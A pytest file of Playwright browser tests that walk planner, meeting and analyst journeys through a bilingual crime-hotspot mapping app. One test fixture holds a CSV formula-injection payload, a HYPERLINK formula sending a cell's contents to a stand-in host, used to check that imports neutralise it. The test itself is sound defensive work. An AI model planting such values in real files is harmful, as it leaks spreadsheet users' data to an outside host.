"""End-to-end journeys in a real browser (issue 14): what a patrol planner, an EST meeting and
an analyst do, in Swedish and in English, against a real ``hotspots app`` server.

Each language has its own server (``hotspots app`` as a person starts it, on a demo store made
for the test) and one browser page that walks three journeys in order:

* **the planner**: opens the map, filters violence on Friday-Saturday 22-04, opens a hotspot
  pop-up, switches language and page and back (the filters stay), plans next week with a
  number of hours and 2 teams, downloads the schedule as CSV and HTML and opens both;
* **the EST meeting**: the lägesbild for the last week, the last four weeks and the last
  month, downloading the PDF and then the HTML (both buttons stay); then an action for the
  first place offered, added, read in the log, closed with its outcome, and the log
  downloaded as CSV;
* **the analyst**: uploads a file with bad rows, reads the rejected rows and why, downloads
  them.

Every step asserts what a person sees: no Streamlit exception, no program data (``{'``,
``label_sv``, codes such as ``foot_patrol`` or ``high_crime_high_fear``, ``None``), the filters
still in force, and the same number of crime hotspots in the metric, the table and the map's
legend. Each step saves a screenshot (1280 x 800) to ``$HOTSPOTS_JOURNEY_SHOTS`` (default: a
temporary folder); ``scripts/journey_screenshots.sh`` writes them to ``docs/journeys/``.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from app_server import (
    CHROMIUM,
    NO_CHROMIUM,
    AppServer,
    copy_store,
    is_local,
    start_app,
    stop_app,
    wait_ready,
)

from hotspots.core.days import nights_words
from hotspots.core.i18n import t
from hotspots.render import labels

LANGS = ("sv", "en")
VIEWPORT = {"width": 1280, "height": 800}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=NO_CHROMIUM),
]

#: Program data a person must never read: Python literals, record keys, codes of categories,
#: suggestion kinds and crime x fear classes, and missing values printed as such.
RAW = re.compile(
    r"\{'|'\}|label_sv|label_en|\b(?:foot_patrol|traffic_check|pub_check|youth_outreach"
    r"|school_visit|assault_public|threat_harassment|high_crime_\w+|perceived_unsafe"
    r"|not_significant)\b|\bNone\b|\bnan\b|<NA>"
)
#: Swedish pages must not show the English weekday codes of the program either.
RAW_SV = re.compile(r"\b(?:mon|tue|wed|thu|fri|sat|sun)\b(?:,|$)")

MAP_FRAME = "iframe[title$='hotspots_map']"
RUNS_SCRIPT = """
window.__hsRuns = 0;
new MutationObserver(function (changes) {
  for (const c of changes) {
    if (c.target.getAttribute('data-test-script-state') === 'running') { window.__hsRuns++; }
  }
}).observe(document, {subtree: true, attributes: true,
                      attributeFilter: ['data-test-script-state']});
"""


# ------------------------------------------------------------------------------- the servers


@pytest.fixture(scope="module")
def stores(
    tmp_path_factory: pytest.TempPathFactory, tuned_demo_store_template: Path
) -> dict[str, Path]:
    """One demo store per language, tuned for the opening map and for violence.

    Made once (from the session's tuned demo store) and copied with its tuning file, so
    neither server tunes while it is watched.
    """
    from hotspots.cli._geo import analysis_geography
    from hotspots.core.config import OPENING
    from hotspots.core.taxonomy import codes_in_area
    from hotspots.forecast.tuning_cache import tuned_bandwidth
    from hotspots.store import open_store

    folder = tmp_path_factory.mktemp("journeys")
    db = copy_store(tuned_demo_store_template, folder / "base")
    incidents = open_store(db).incidents()
    geography = analysis_geography(
        incidents, metric_crs=incidents.crs.to_string(), config=None, study_area=OPENING.study
    )
    tuned_bandwidth(
        db,
        incidents=incidents,
        geography=geography,
        kernel=OPENING.kernel,
        cell_m=float(OPENING.cell_m),
        categories=codes_in_area("violence"),
    )
    return {lang: copy_store(db, folder / lang) for lang in LANGS}


@pytest.fixture(scope="module")
def servers(stores: dict[str, Path]) -> Iterator[dict[str, AppServer]]:
    """``hotspots app --db DB --port P`` per language, as a person starts it.

    Both are started at once (the second warms up while the first language's journeys run);
    each is waited for when its language's visit begins, and stopped with its children.
    """
    started: dict[str, AppServer] = {}
    try:
        for lang in LANGS:
            started[lang] = start_app(stores[lang])
        yield started
    finally:
        for server in started.values():
            stop_app(server)


# ------------------------------------------------------------------------------- the browser


@pytest.fixture(scope="module")
def shots_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the screenshots go: ``$HOTSPOTS_JOURNEY_SHOTS`` or a temporary folder."""
    folder = os.environ.get("HOTSPOTS_JOURNEY_SHOTS")
    path = Path(folder) if folder else tmp_path_factory.mktemp("journey-shots")
    path.mkdir(parents=True, exist_ok=True)
    return path


def _small_png(path: Path) -> None:
    """Store a screenshot with a palette of 256 colours (a third of the size, as sharp)."""
    from PIL import Image

    with Image.open(path) as image:
        small = image.convert("RGB").quantize(colors=256, method=Image.Quantize.MEDIANCUT)
    small.save(path, optimize=True)


@dataclass
class Visit:
    """One language's server and browser page, walked through by the journeys in turn."""

    lang: str
    url: str
    page: Any
    context: Any
    shots: Path
    downloads: Path
    blocked: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    steps: dict[str, int] = field(default_factory=dict)

    def tr(self, key: str, **values: object) -> str:
        """The interface's words for ``key`` in this visit's language."""
        return t(key, self.lang, **values)  # type: ignore[arg-type]

    # --- waiting --------------------------------------------------------------------------

    def runs(self) -> int:
        return int(self.page.evaluate("window.__hsRuns || 0"))

    def act(self, action: Callable[[], object], *, timeout_s: float = 240.0) -> None:
        """Do ``action`` and wait until the script run it started has finished."""
        before = self.runs()
        action()
        self.page.wait_for_function(
            """(n) => window.__hsRuns > n && document.querySelector('[data-testid=stApp]')
                 .getAttribute('data-test-script-state') === 'notRunning'""",
            arg=before,
            timeout=timeout_s * 1000,
        )
        self.page.wait_for_timeout(300)

    def idle(self) -> None:
        """Wait until no script run is going on."""
        self.page.wait_for_function(
            """() => { const a = document.querySelector('[data-testid=stApp]');
                       return a && a.getAttribute('data-test-script-state') === 'notRunning'; }""",
            timeout=240_000,
        )

    # --- what a person sees ---------------------------------------------------------------

    def map_frame(self) -> Any:
        return self.page.frame_locator(MAP_FRAME).first

    def map_doc(self) -> Any:
        return next(f for f in self.page.frames if "hotspots_map" in f.url)

    def wait_map(self, summary: str | None = None) -> None:
        """Wait for the map; with ``summary``, until its folded info box says it."""
        frame = self.map_frame()
        frame.locator(".hs-info").wait_for(timeout=240_000)
        if summary is not None:
            frame.locator(".hs-info summary", has_text=summary).wait_for(timeout=240_000)

    def sidebar(self) -> Any:
        return self.page.get_by_test_id("stSidebar")

    def check(self, *, extra: str = "") -> str:
        """Assert the page shows no exception and no program data; the page's text."""
        page = self.page
        assert page.get_by_test_id("stException").count() == 0, page.get_by_test_id(
            "stException"
        ).first.inner_text()
        # Streamlit's own navigation of module names must not appear (app/views, not pages)
        assert page.get_by_test_id("stSidebarNav").count() == 0
        text = page.get_by_test_id("stApp").inner_text()
        for table in page.get_by_test_id("stDataFrame").all():
            text += "\n" + (table.text_content() or "")
        text += "\n" + extra
        found = RAW.findall(text)
        assert not found, f"program data on the page: {found}"
        if self.lang == "sv":
            assert not RAW_SV.findall(text), RAW_SV.findall(text)
        assert self.errors == [], self.errors
        assert self.blocked == [], self.blocked  # nothing fetched from another machine
        return text

    def shot(self, journey: str, name: str, *, page: Any = None, top: Any = None) -> Path:
        """Save a screenshot of this step: ``<lang>-<journey>-<nn>-<name>.png``.

        ``top`` (a locator) is scrolled to the top of the window first.
        """
        if top is not None:
            top.first.evaluate("e => e.scrollIntoView({block: 'start'})")
            self.page.wait_for_timeout(300)
        n = self.steps[journey] = self.steps.get(journey, 0) + 1
        path = self.shots / f"{self.lang}-{journey}-{n:02d}-{name}.png"
        (page or self.page).screenshot(path=str(path))
        _small_png(path)
        return path

    # --- widgets ----------------------------------------------------------------------------

    def choose_page(self, key: str) -> None:
        self.act(
            lambda: (
                self.sidebar()
                .get_by_test_id("stRadio")
                .filter(has_text=self.tr("app_page"))
                .get_by_text(self.tr(f"app_page_{key}"), exact=True)
                .click()
            )
        )

    def choose_language(self, lang: str) -> None:
        word = "Svenska" if lang == "sv" else "English"
        self.act(lambda: self.sidebar().get_by_text(word, exact=True).click())
        self.lang = lang

    def weekdays(self) -> list[str]:
        box = self.sidebar().get_by_test_id("stMultiSelect").filter(has_text=self.tr("weekdays"))
        return box.locator("[data-tag]").all_inner_texts()

    def metric(self, label: str) -> str:
        metric = self.page.get_by_test_id("stMetric").filter(has_text=label).first
        return metric.get_by_test_id("stMetricValue").inner_text().strip()

    def table_rows(self, n: int = 0) -> int:
        """Rows of the ``n``-th table on the page (its header row not counted)."""
        grid = self.page.get_by_test_id("stDataFrame").nth(n).locator("[aria-rowcount]").first
        return int(grid.get_attribute("aria-rowcount")) - 1

    def download(self, button: str) -> Path:
        """Click the download button ``button``; the file, kept in the downloads folder."""
        with self.page.expect_download(timeout=120_000) as info:
            self.page.get_by_test_id("stDownloadButton").filter(has_text=button).first.click()
        download = info.value
        path = self.downloads / download.suggested_filename
        download.save_as(path)
        return path


@pytest.fixture(scope="module", params=LANGS)
def visit(
    request: pytest.FixtureRequest,
    servers: dict[str, AppServer],
    browser: Any,
    shots_dir: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Visit]:
    """The server and the page of one language (one server, one page, every journey)."""
    lang = request.param
    server = wait_ready(servers[lang])
    context = browser.new_context(viewport=VIEWPORT, accept_downloads=True)
    page = context.new_page()
    page.add_init_script(RUNS_SCRIPT)
    v = Visit(
        lang=lang,
        url=server.url,
        page=page,
        context=context,
        shots=shots_dir,
        downloads=tmp_path_factory.mktemp(f"downloads-{lang}"),
    )

    def route(r: Any) -> None:
        if is_local(r.request.url):
            r.continue_()
        else:
            v.blocked.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    page.on("pageerror", lambda e: v.errors.append(str(e)))
    try:
        page.goto(f"{server.url}/?lang={lang}", wait_until="domcontentloaded")
        v.wait_map()
        v.idle()
        yield v
    finally:
        context.close()
        stop_app(server)  # its journeys are done


# ------------------------------------------------------------------------------- journeys


def _visible_labels(v: Visit, kind: str) -> list[str]:
    """The names of ``kind`` written on the map and not hidden; asserts none overlap."""
    boxes = v.map_doc().evaluate(
        """(kind) => Array.from(document.querySelectorAll('.hs-label-' + kind))
            .filter(e => getComputedStyle(e).display !== 'none'
                         && getComputedStyle(e).visibility !== 'hidden')
            .map(e => { const r = e.getBoundingClientRect();
                        return [e.textContent, r.left, r.top, r.right, r.bottom]; })""",
        kind,
    )
    for i, a in enumerate(boxes):
        for b in boxes[:i]:
            overlap = a[1] < b[3] and a[3] > b[1] and a[2] < b[4] and a[4] > b[2]
            assert not overlap, f"{a[0]!r} is written over {b[0]!r}"
    return [b[0] for b in boxes]


def _crime_numbers(v: Visit) -> tuple[int, int, int]:
    """Crime hotspots in the metric, in the table under the map and in the map's legend."""
    metric = int(v.metric(v.tr("layer_hotspots")))
    table = v.table_rows(0)
    legend = v.map_frame().locator(".hs-legend [data-hs=hotspots] .hs-n").inner_text()
    return metric, table, int(legend)


def _open_hotspot_popup(v: Visit) -> str:
    """Click the first crime hotspot on the map as a person would; the pop-up's text."""
    v.page.locator(MAP_FRAME).first.evaluate("e => e.scrollIntoView({block: 'start'})")
    doc = v.map_doc()
    doc.wait_for_function("() => window.map_hs && map_hs._loaded && !map_hs._animatingZoom")
    # centre the hotspot ranked first, then find a pixel of the map where it is on top
    point = doc.evaluate(
        """() => {
            const hot = Object.values(map_hs._layers).filter(l => l.feature && l._path
                && l.feature.geometry.type.endsWith('Polygon') && l.options.dashArray == null
                && (l.feature.properties._p || '').includes('hs-pop'));
            const target = hot[0];
            map_hs.fitBounds(target.getBounds(), {animate: false, maxZoom: 16});
            const b = target._path.getBoundingClientRect();
            for (let i = 1; i < 20; i++) {
                for (let j = 1; j < 20; j++) {
                    const x = b.left + b.width * i / 20, y = b.top + b.height * j / 20;
                    if (document.elementFromPoint(x, y) === target._path) { return [x, y]; }
                }
            }
            return null;
        }"""
    )
    assert point is not None, "no pixel of the hotspot is clickable"
    box = v.page.locator(MAP_FRAME).first.bounding_box()
    v.page.mouse.click(box["x"] + point[0], box["y"] + point[1])
    popup = v.map_frame().locator(".leaflet-popup-content")
    popup.wait_for(timeout=10_000)
    return popup.inner_text()


def test_the_planner(visit: Visit) -> None:
    """Map, violence on Friday-Saturday 22-04, a pop-up, switches, next week's plan."""
    v = visit
    page = v.page
    fre_lor = labels.weekdays_text([4, 5], v.lang)  # "fre, lör" / "Fri, Sat"

    v.check()
    # the map opens with its settings folded to one line, district names written on it
    # (none over another) and the hotspot count in its legend
    frame = v.map_frame()
    assert frame.locator(".hs-info details").get_attribute("open") is None
    names = _visible_labels(v, "districts")
    assert len(names) >= 5, names
    v.shot("planner", "map", top=page.get_by_test_id("stMetric"))

    # violence, Friday and Saturday, the night
    page.get_by_test_id("stSelectbox").filter(has_text=v.tr("app_area")).click()
    violence = labels.problem_area("violence", v.lang)
    v.act(lambda: page.get_by_role("option", name=violence).click())
    for day in (0, 1, 2, 3, 6):
        name = labels.weekday(day, v.lang)
        v.act(lambda name=name: page.get_by_role("button", name=f"Remove {name}").click())
    v.act(lambda: v.sidebar().get_by_text(v.tr("app_night"), exact=True).click())
    v.wait_map(summary=f"{violence} · 22-04; {fre_lor}")  # what the map is of, folded
    assert v.weekdays() == fre_lor.split(", ")
    text = v.check()
    metric, table, legend = _crime_numbers(v)
    assert metric == table == legend, (metric, table, legend)
    assert metric >= 1
    v.shot("planner", "violence-fri-sat-night", top=page.get_by_test_id("stMetric"))

    # the perceived places are apart from the crime hotspots, with a sentence saying why
    perceived = page.get_by_role("heading", name=v.tr("app_perceived_heading"))
    if perceived.count():
        assert v.tr("app_perceived_caption", first=metric + 1)[:40] in text
    v.shot("planner", "tables", top=page.get_by_role("heading", name=v.tr("layer_hotspots")))

    # a hotspot's pop-up: words, never the program's records or codes
    popup = _open_hotspot_popup(v)
    # at street zoom on the hotspot (a large one opens wider) the places have their names
    v.map_doc().evaluate("() => map_hs.setView(map_hs.getCenter(), 16, {animate: false})")
    v.map_doc().wait_for_function("() => map_hs.getZoom() === 16 && !map_hs._animatingZoom")
    assert _visible_labels(v, "places"), "no place names at street zoom"
    assert v.tr("hotspot") in popup
    assert v.tr("top_categories") in popup
    assert not RAW.findall(popup), popup
    v.check(extra=popup)
    v.shot("planner", "hotspot-popup", top=page.locator(MAP_FRAME))

    # another language and back, another page and back: the filters stay in force
    other = "en" if v.lang == "sv" else "sv"
    own = v.lang
    v.choose_language(other)
    v.wait_map(
        summary=f"{labels.problem_area('violence', other)} · 22-04; "
        f"{labels.weekdays_text([4, 5], other)}"
    )
    assert v.weekdays() == labels.weekdays_text([4, 5], other).split(", ")
    v.check()
    v.choose_page("data")
    v.choose_page("map")
    v.choose_language(own)
    v.wait_map(summary=f"{violence} · 22-04; {fre_lor}")
    assert v.weekdays() == fre_lor.split(", ")
    assert _crime_numbers(v) == (metric, table, legend)
    v.check()

    # next week's plan: hours and two teams
    v.choose_page("plan")
    hours = page.get_by_test_id("stNumberInput").filter(has_text=v.tr("app_patrol_hours"))
    # 12 h: two teams on Friday's and Saturday's nights (22-04) have 24 h between them
    v.act(lambda: (hours.locator("input").fill("12"), hours.locator("input").press("Enter")))
    teams = page.get_by_test_id("stNumberInput").filter(has_text=v.tr("app_teams"))
    v.act(lambda: (teams.locator("input").fill("2"), teams.locator("input").press("Enter")))
    v.wait_map()
    text = v.check()
    from hotspots.planning import default_week

    week = default_week()
    assert v.tr("app_plan_caption", week=week, n=0).split(str(week))[0] in text
    assert str(week) in text
    assert v.weekdays() == fre_lor.split(", ")  # the filters are those of the map
    v.shot("planner", "plan")
    v.shot("planner", "schedule", top=page.get_by_role("heading", name=v.tr("app_schedule")))

    # the schedule as CSV: Swedish Excel (';', BOM), words not codes, two teams
    path = v.download("CSV")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:3] == [labels.column(c, v.lang) for c in ("date", "day", "start")]
    team = header.index(labels.column("team", v.lang))
    assert {r[team] for r in rows[1:]} == {"1", "2"}
    assert not RAW.findall(data.decode("utf-8-sig"))
    days = {r[1] for r in rows[1:]}
    # every visit in Friday's or Saturday's night (after midnight: named by the night)
    nights = {nights_words([d], v.lang) for d in (5, 6)}  # "natten fre/lör" / "Fri/Sat night"
    assert days <= set(labels.weekdays_text([4, 5, 6], v.lang).split(", ")) | nights, days

    # and as HTML, opened in the browser
    html = v.download("HTML")
    assert page.get_by_test_id("stDownloadButton").filter(has_text="CSV").count() == 1
    printable = v.context.new_page()
    printable.goto(html.as_uri())
    body = printable.locator("body").inner_text()
    assert str(week).split("-W")[1].lstrip("0") in body
    assert not RAW.findall(body), RAW.findall(body)
    if v.lang == "sv":
        assert not RAW_SV.findall(body)
    v.shot("planner", "schedule-html", page=printable)
    printable.close()


def _build_report(v: Visit, kind: str) -> str:
    """Choose the period kind, build the lägesbild; the report's text."""
    page = v.page
    kinds = page.get_by_test_id("stRadio").filter(has_text=v.tr("app_report_period_kind"))
    option = kinds.get_by_role("radio", name=v.tr(f"app_report_kind_{kind}"), exact=True)
    if not option.is_checked():
        v.act(lambda: kinds.get_by_text(v.tr(f"app_report_kind_{kind}"), exact=True).click())
    button = page.get_by_role("button", name=v.tr("app_report_build"))
    v.act(button.click)
    report = page.frame_locator("[data-testid=stIFrame]").first
    report.locator("body").wait_for(timeout=60_000)
    return report.locator("body").inner_text()


def test_the_est_meeting(visit: Visit) -> None:
    """The lägesbild of the last week, four weeks and month; the PDF then the HTML."""
    v = visit
    page = v.page
    v.choose_page("report")
    v.check()
    for kind in ("week", "weeks4", "month"):
        text = _build_report(v, kind)
        assert v.tr("report_title") in text
        assert not RAW.findall(text), RAW.findall(text)
        v.check()
        # the first with the page's choices, the others with the report itself at the top
        top = None if kind == "week" else page.get_by_test_id("stIFrame")
        v.shot("est", f"lagesbild-{kind}", top=top)
        # the PDF, then the HTML: both buttons stay, no rebuild
        pdf = v.download("PDF")
        assert pdf.read_bytes().startswith(b"%PDF")
        html = v.download("HTML")
        assert v.tr("report_title") in html.read_text(encoding="utf-8")
        assert page.get_by_test_id("stDownloadButton").count() == 2
        assert page.get_by_role("button", name=v.tr("app_report_build")).count() == 0
        if kind == "month" and shutil.which("pdftoppm"):
            png = v.shots / f"{v.lang}-est-{v.steps['est'] + 1:02d}-lagesbild-pdf-page1"
            subprocess.run(
                ["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", "-singlefile", pdf, png],
                check=True,
            )
            _small_png(png.with_suffix(".png"))
            v.steps["est"] += 1
    _add_and_close_an_action(v)


def _form(v: Visit, button: str) -> Any:
    """The form whose submit button says ``button``."""
    return v.page.get_by_test_id("stForm").filter(
        has=v.page.get_by_role("button", name=button, exact=True)
    )


def _choose(v: Visit, form: Any, label: str, option: str) -> None:
    """Choose ``option`` in the box ``label`` of ``form`` (a form's box runs nothing)."""
    box = form.get_by_test_id("stSelectbox").filter(has=v.page.get_by_text(label, exact=True))
    box.click()
    v.page.get_by_role("option", name=option, exact=True).click()


def _log_text(page: Any, word: str, timeout_s: float = 60.0) -> str:
    """The actions log's text once it shows ``word`` (the grid draws after the run ends)."""
    deadline = time.monotonic() + timeout_s
    while True:
        shown = page.get_by_test_id("stDataFrame").last.text_content() or ""
        if word in shown or time.monotonic() > deadline:
            return shown
        page.wait_for_timeout(250)


def _add_and_close_an_action(v: Visit) -> None:
    """The meeting decides lighting by the kommun at the first place offered, then closes it."""
    page = v.page
    lighting, kommun = v.tr("actions_what_belysning"), v.tr("actions_actor_kommun")
    heading = page.get_by_role("heading", name=v.tr("app_actions_heading"))
    heading.scroll_into_view_if_needed()
    assert page.get_by_text(v.tr("app_actions_none")).count() == 1
    add = _form(v, v.tr("app_actions_save"))
    label = page.get_by_text(v.tr("app_actions_place"), exact=True)
    add.get_by_test_id("stSelectbox").filter(has=label).click()
    offered = page.get_by_role("option").first.inner_text()  # the default: the first offered
    page.keyboard.press("Escape")
    _choose(v, add, v.tr("app_actions_what"), lighting)
    _choose(v, add, v.tr("app_actions_actor"), kommun)
    add.get_by_test_id("stTextArea").locator("textarea").fill("Två nya lampor vid gångtunneln")
    v.shot("est", "action-form", top=heading)
    v.act(add.get_by_role("button", name=v.tr("app_actions_save"), exact=True).click)
    saved = v.tr("app_actions_added", id="A-0001", what=lighting, place="§").split("§")[0]
    page.get_by_text(saved).wait_for(timeout=60_000)
    v.idle()
    message = page.get_by_test_id("stAlert").filter(has_text=saved).inner_text()
    place = message.split(" – ", 1)[1].rstrip(".")
    assert place == offered  # the place offered first, in words (a hotspot by rank, ...)
    # the form starts anew for the next decision
    add = _form(v, v.tr("app_actions_save"))
    assert add.get_by_test_id("stTextArea").locator("textarea").input_value() == ""
    # the log's first columns (the table draws the columns in view): id, status, what, who
    shown = _log_text(page, "A-0001")
    for word in ("A-0001", labels.action_status("planerad", v.lang), lighting, kommun):
        assert word in shown, (word, shown)
    v.check()
    v.shot("est", "action-added", top=heading)

    # the new action is the one chosen below the log: closed as done, with its outcome
    close = _form(v, v.tr("app_actions_close_button"))
    assert v.tr("app_actions_close", id="A-0001") in close.inner_text()
    close.get_by_test_id("stTextArea").locator("textarea").fill("Lamporna sitter uppe")
    v.act(close.get_by_role("button", name=v.tr("app_actions_close_button"), exact=True).click)
    done = labels.action_status("klar", v.lang)
    page.get_by_text(v.tr("app_actions_closed_done", id="A-0001", status=done)).wait_for(
        timeout=60_000
    )
    v.idle()
    shown = _log_text(page, done)
    assert done in shown
    assert _form(v, v.tr("app_actions_close_button")).count() == 0  # closed: nothing to close
    v.check()
    v.shot("est", "action-closed", top=heading)

    # the log as CSV: Swedish Excel (';', BOM), words not codes
    data = v.download(v.tr("app_actions_csv")).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    assert row[header.index(labels.column("action", v.lang))] == lighting
    assert row[header.index(labels.column("actor", v.lang))] == kommun
    assert row[header.index(labels.column("status", v.lang))] == done
    assert row[header.index(labels.column("place_ref", v.lang))]
    note = row[header.index(labels.column("note", v.lang))]
    assert note == "Två nya lampor vid gångtunneln Lamporna sitter uppe"  # with the outcome
    assert not RAW.findall(data.decode("utf-8-sig"))


#: A Swedish spreadsheet export with 5 good rows near Stora torget, Karlstad, and 4 bad ones.
BAD_FILE = (
    "tidpunkt;kategori;lat;lon\n"
    "2026-11-20 22:15;Misshandel i offentlig miljö;59,3793;13,5036\n"
    "2026-11-20 23:40;assault_public;59,3801;13,5012\n"
    "2026-11-21 01:10;Skadegörelse;59,3788;13,5050\n"
    "2026-11-21 02:30;vandalism;59,3810;13,4990\n"
    "2026-11-21 03:05;Rån;59,3795;13,5020\n"
    "inte en tid;assault_public;59,3793;13,5036\n"
    '2026-11-21 04:00;=HYPERLINK("http://x/?leak="&A1,"y");59,3793;13,5036\n'
    "2026-11-21 05:00;assault_public;;13,5036\n"
    "2026-11-21 06:00;assault_public;13,5036;59,3793\n"
)


def test_the_analyst(visit: Visit, tmp_path: Path) -> None:
    """A file with bad rows: the rejected rows and why, and their download."""
    v = visit
    page = v.page
    v.choose_page("data")
    v.check()
    upload = tmp_path / "brott.csv"
    upload.write_text(BAD_FILE, encoding="utf-8")
    v.act(lambda: page.locator("input[type=file]").set_input_files(str(upload)))
    v.act(page.get_by_role("button", name=v.tr("app_import_button"), exact=True).click)
    done = v.tr("app_import_done", accepted=5, inserted=5, updated=0, rejected=4)
    page.get_by_text(done).wait_for(timeout=60_000)
    # the import reruns the page once more (the store's counts above change): wait for it
    page.get_by_role("heading", name=v.tr("app_rejects_heading")).wait_for(timeout=60_000)
    v.idle()
    text = v.check()
    assert "brott.csv" in text  # the imports table shows the new file
    assert v.tr("app_rejects_heading") in text
    assert page.locator("[data-testid=stMain] a[href^='http://x']").count() == 0  # no live link
    rejects_table = page.get_by_test_id("stDataFrame").last
    assert v.table_rows(page.get_by_test_id("stDataFrame").count() - 1) == 4
    shown = rejects_table.text_content() or ""
    missing = labels.reject_reason("missing location: lat or lon is empty", v.lang)
    assert missing in shown
    assert labels.column("reason", v.lang) in shown
    v.shot("analyst", "rejected-rows", top=page.get_by_test_id("stAlert"))
    path = v.download(v.tr("app_rejects_download"))
    data = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data), delimiter=";"))
    assert len(rows) == 5
    assert rows[2][2].startswith("'=")  # the formula is text in a spreadsheet
    # the button stays after the download, as does the table
    assert page.get_by_test_id("stDownloadButton").count() == 1
    v.check()
